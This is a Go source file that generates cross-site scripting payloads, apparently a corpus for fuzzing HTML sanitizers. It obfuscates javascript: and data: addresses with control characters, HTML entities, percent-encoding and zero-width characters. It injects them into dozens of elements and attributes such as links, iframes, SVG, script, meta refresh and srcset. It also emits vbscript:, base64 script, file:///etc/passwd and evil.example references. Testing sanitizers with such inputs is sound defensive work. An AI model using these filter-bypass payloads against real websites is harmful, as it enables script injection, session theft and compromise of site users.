package payloads

import "strings"

// encodings returns functions that each spell an address differently. Browsers
// read some of the spellings as the same address; a filter may take others for
// a harmless address.
func encodings() []func(scheme, rest string) string {
	written := func(format string) func(scheme, rest string) string {
		return func(scheme, rest string) string {
			return strings.NewReplacer("SCHEME", scheme, "FIRST", scheme[:1], "LATER", scheme[1:], "REST", rest).Replace(format)
		}
	}
	return []func(scheme, rest string) string{
		written("SCHEME:REST"),
		func(scheme, rest string) string { return strings.ToUpper(scheme) + ":" + rest },
		func(scheme, rest string) string { return strings.ToUpper(scheme[:1]) + scheme[1:] + ":" + rest },
		written(" SCHEME:REST"), written("\tSCHEME:REST"), written("\nSCHEME:REST"), written("\x01SCHEME:REST"), written("\x1fSCHEME:REST"),
		written("FIRST\tLATER:REST"), written("FIRST\nLATER:REST"), written("FIRST\rLATER:REST"), written("SCHEME\t:REST"), written("SCHEME:\tREST"),
		written("&#9;SCHEME:REST"), written("FIRST&Tab;LATER:REST"), written("FIRST&NewLine;LATER:REST"), written("SCHEME&colon;REST"), written("SCHEME&#58;REST"),
		written("SCHEME&#x3a;REST"), written("SCHEME&#0000058REST"), written("&#1;SCHEME:REST"), written("&#x20;SCHEME:REST"), written("&nbsp;SCHEME:REST"),
		written("SCHEME%3aREST"), written("SCHEME :REST"), written("\u200bSCHEME:REST"), written("\u2028SCHEME:REST"), written("\ufeffSCHEME:REST"), written("./SCHEME:REST"),
		written("view-source:SCHEME:REST"), written("feed:SCHEME:REST"), written("http:SCHEME:REST"), written("//SCHEME:REST"), written("#SCHEME:REST"), written("?SCHEME:REST"),
		func(scheme, rest string) string { return numeric(scheme, "&#%d;") + ":" + rest },
		func(scheme, rest string) string { return numeric(scheme, "&#x%x;") + ":" + rest },
		func(scheme, rest string) string { return numeric(scheme, "&#%07d") + ":" + rest },
	}
}

// numeric returns s with each letter as a numeric character reference.
func numeric(s, format string) string {
	var b strings.Builder
	for _, c := range s {
		b.WriteString(strings.NewReplacer("%d", decimal(c, 10), "%x", decimal(c, 16), "%07d", "00000"+decimal(c, 10)).Replace(format))
	}
	return b.String()
}

func decimal(c rune, base int) string {
	const digits = "0123456789abcdef"
	if int(c) < base {
		return digits[c : c+1]
	}
	return decimal(c/rune(base), base) + digits[int(c)%base:int(c)%base+1]
}

// targets returns elements with an address, for which ADDRESS stands.
func targets() []string {
	return []string{
		`<a href="ADDRESS">x</a>`, `<a href="ADDRESS" target=_self><b>x</b></a>`, `<iframe src="ADDRESS"></iframe>`, `<embed src="ADDRESS">`,
		`<object data="ADDRESS">x</object>`, `<form action="ADDRESS"><button>x</button></form>`, `<button formaction="ADDRESS" form=f>x</button><form id=f></form>`,
		`<img src="ADDRESS">`, `<video poster="ADDRESS" src="ADDRESS"></video>`, `<svg><a xlink:href="ADDRESS"><text y=20>x</text></a></svg>`, `<svg><a href="ADDRESS"><text y=20>x</text></a></svg>`,
		`<math href="ADDRESS"><mi>x</mi></math>`, `<math><mi xlink:href="ADDRESS">x</mi></math>`, `<map name=m><area shape=default href="ADDRESS"></map><img usemap=#m src=/p.png width=40 height=40>`,
		`<base href="ADDRESS"><a href=x>x</a>`, `<meta http-equiv=refresh content="0;url=ADDRESS">`, `<link rel=stylesheet href="ADDRESS">`, `<body background="ADDRESS">`, `<table background="ADDRESS"><tr><td>x</table>`,
		`<q cite="ADDRESS">x</q>`, `<a href=# ping="ADDRESS">x</a>`, `<input type=image src="ADDRESS">`, `<frameset><frame src="ADDRESS"></frameset>`, `<svg><use href="ADDRESS#x"/></svg>`, `<svg><image href="ADDRESS"/></svg>`,
		`<img srcset="ADDRESS 1x">`, `<picture><source srcset="ADDRESS"><img></picture>`, `<iframe srcdoc="<a href='ADDRESS'>x</a>"></iframe>`, `<img longdesc="ADDRESS" src=/p.png>`, `<blockquote cite="ADDRESS">x</blockquote>`,
		`<script src="ADDRESS"></script>`, `<svg><script href="ADDRESS"></script></svg>`, `<track src="ADDRESS">`, `<manifest href="ADDRESS">`,
	}
}

// addresses writes every target with every scheme in every encoding.
func addresses(w *writer) {
	schemes := [][2]string{
		{"javascript", "PROBE"}, {"data", "text/html,&lt;script&gt;PROBE&lt;/script&gt;"},
	}
	for _, target := range targets() {
		for _, s := range schemes {
			for _, encode := range encodings() {
				w.add(strings.ReplaceAll(target, "ADDRESS", encode(s[0], s[1])))
			}
		}
		for _, address := range []string{
			"vbscript:PROBE", "data:text/html;base64,PHNjcmlwdD50b3AuZmlyZWQoMCk8L3NjcmlwdD4=", "data:image/svg+xml,&lt;svg onload=PROBE xmlns='http://www.w3.org/2000/svg'/&gt;",
			"data:application/xhtml+xml,&lt;x/&gt;", "blob:https://example.org/x", "filesystem:https://example.org/x", "javascript://example.org/%0aPROBE", "javascript:/*--&gt;*/PROBE",
			"jar:https://example.org!/x", "mhtml:https://example.org/x", "about:blank", "file:///etc/passwd", "chrome://settings", "\\\\evil.example\\x",
		} {
			w.add(strings.ReplaceAll(target, "ADDRESS", address))
		}
	}
}

// srcset writes srcset attributes that two parsers may split differently.
func srcset(w *writer) {
	for _, list := range []string{
		"javascript:PROBE 1x, /a.png 2x", "/a.png,javascript:PROBE", "data:text/html,x 1x", "data:image/svg+xml,&lt;svg/&gt; 1x", "/a.png 1x 2x", "/a.png -1w", "/a.png 1e999x",
		",,,javascript:PROBE", "/a.png (x, javascript:PROBE 2x)", "x: 1x", "/a,b.png 1x,/c.png", " \t\n/a.png\f1x ", "//evil.example/x 1x",
	} {
		w.addf(`<img srcset="%s" src=/p.png>`, list)
		w.addf(`<img data-srcset="%s" src=/p.png>`, list)
		w.addf(`<picture><source srcset="%s"><img src=/p.png></picture>`, list)
		w.addf(`<noscript><img srcset="%s" src=/p.png></noscript>`, list)
	}
}
